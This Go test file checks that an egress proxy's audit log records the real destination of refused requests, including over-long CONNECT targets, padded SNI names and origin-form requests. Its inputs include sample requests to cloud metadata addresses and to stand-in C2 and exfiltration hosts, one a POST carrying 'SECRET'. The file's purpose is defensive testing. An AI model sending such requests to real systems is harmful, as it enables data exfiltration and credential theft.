package proxy

import (
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"
)

// TestOverLongTargetKeepsTheDomainItEndsWithInTheAuditLog is issue 18's
// seventh review, finding 3: a CONNECT target or a server_name longer than
// a DNS name may be was cut to its first 253 bytes, so the registrable
// domain at its end (the destination) was in no audit line, and two
// destinations behind the same filler folded into one. The record keeps
// both ends, says how long the target was, and each destination keeps a
// line of its own.
func TestOverLongTargetKeepsTheDomainItEndsWithInTheAuditLog(t *testing.T) {
	e := newEnv(t, withFoldWindow(time.Hour))
	filler := strings.Repeat(strings.Repeat("a", 63)+".", 4)
	for _, dest := range []string{"x.c2-one.evil.example", "metadata.google.internal"} {
		target := filler + dest + ":443"
		resp := rawRequest(t, e.addr, "CONNECT "+target+" HTTP/1.1\r\nHost: x\r\n\r\n")
		if resp.StatusCode != http.StatusBadRequest {
			t.Fatalf("%s: %s", dest, resp.Status)
		}
		rec := waitHostRawEnding(t, e, "host_raw", dest+":443")
		if !strings.HasPrefix(rec, "aaaa") || !strings.Contains(rec, "["+strconv.Itoa(len(target))+" bytes]") || len(rec) > 253 {
			t.Fatalf("%s: host_raw %q (%d bytes) is not head…[%d bytes]…tail", dest, rec, len(rec), len(target))
		}
	}

	e.resolveToOrigin("api.allowed.example")
	allowed := "api.allowed.example:" + itoa(e.origin.Addr.Port())
	for _, dest := range []string{"sni.c2-one.evil.example", "sni.c2-two.evil.example"} {
		if status, closed := e.rawTunnel(allowed, buildHello(helloSpec{names: []string{filler + dest}})); status != 200 || !closed {
			t.Fatalf("%s: status %d, closed %v", dest, status, closed)
		}
		waitHostRawEnding(t, e, "sni_raw", dest)
	}
}

// waitHostRawEnding waits for a connect event whose field ends with end,
// and returns that field.
func waitHostRawEnding(t *testing.T, e *env, field, end string) string {
	t.Helper()
	timeout := time.After(10 * time.Second)
	for {
		for _, ev := range e.log.events(t) {
			if s, _ := ev[field].(string); ev["event"] == "connect" && strings.HasSuffix(s, end) {
				return s
			}
		}
		select {
		case <-e.log.wrote:
		case <-timeout:
			t.Fatalf("no connect event whose %s ends %q; log:\n%s", field, end, e.log.String())
		}
	}
}

// TestOriginFormRequestIsAuditedWithTheHostItNamed is issue 18's seventh
// review, finding 1: "GET / HTTP/1.1" with the destination only in Host:
// was audited as host_raw "/", so the metadata address or a C2 name it
// tried was in no record, and every such attempt folded under "/". The
// record names the Host (escaped) and keeps the path apart.
func TestOriginFormRequestIsAuditedWithTheHostItNamed(t *testing.T) {
	e := newEnv(t, withFoldWindow(time.Hour))
	for _, c := range []struct{ head, host, path string }{
		{"GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", "169.254.169.254", "/"},
		{"GET /latest/meta-data?x=1 HTTP/1.1\r\nHost: metadata.google.internal\r\n\r\n", "metadata.google.internal", "/latest/meta-data"},
		{"OPTIONS * HTTP/1.1\r\nHost: secret-c2-four.evil.example\r\n\r\n", "secret-c2-four.evil.example", "*"},
		{"POST / HTTP/1.1\r\nHost: exfil.evil.example\r\nContent-Length: 6\r\n\r\nSECRET", "exfil.evil.example", "/"},
	} {
		resp := rawRequest(t, e.addr, c.head)
		if resp.StatusCode != http.StatusMethodNotAllowed {
			t.Fatalf("%q: %s", c.head, resp.Status)
		}
		e.log.waitEvent(t, map[string]any{"event": "connect", "reason": "method_not_allowed", "host_raw": c.host, "path": c.path})
	}
	// A CONNECT in origin form names no target either: refused 400 as
	// before, named by its Host.
	resp := rawRequest(t, e.addr, "CONNECT / HTTP/1.1\r\nHost: secret-c2-three.evil.example:443\r\n\r\n")
	if resp.StatusCode != http.StatusBadRequest || resp.Header.Get(ReasonHeader) != "bad_request" {
		t.Fatalf("CONNECT /: %s %q", resp.Status, resp.Header.Get(ReasonHeader))
	}
	e.log.waitEvent(t, map[string]any{"event": "connect", "reason": "bad_request", "method": "CONNECT", "host_raw": "secret-c2-three.evil.example:443", "path": "/"})
}
